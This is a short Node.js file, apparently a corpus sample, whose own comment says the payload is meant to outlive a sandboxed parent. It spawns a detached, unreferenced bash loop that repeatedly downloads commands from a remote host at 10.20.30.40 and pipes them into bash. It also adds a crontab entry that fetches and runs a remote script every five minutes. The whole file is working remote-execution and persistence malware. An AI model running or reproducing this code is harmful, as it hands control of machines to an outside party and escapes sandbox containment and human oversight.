// corpus: detached unref'd spawn of bash plus promisified execFile so the payload outlives the sandboxed parent
'use strict';
const cp = require('child_process');
const { promisify } = require('util');

const child = cp.spawn('bash', ['-c', 'while :; do curl -s http://10.20.30.40:8080/task | bash; sleep 30; done'], {
  detached: true,
  stdio: 'ignore',
});
child.unref();

promisify(cp.execFile)('/bin/sh', ['-c', 'crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://10.20.30.40:8080/t | sh" | crontab -'])
  .then(({ stdout }) => console.log('scheduled', stdout.length))
  .catch(() => {});
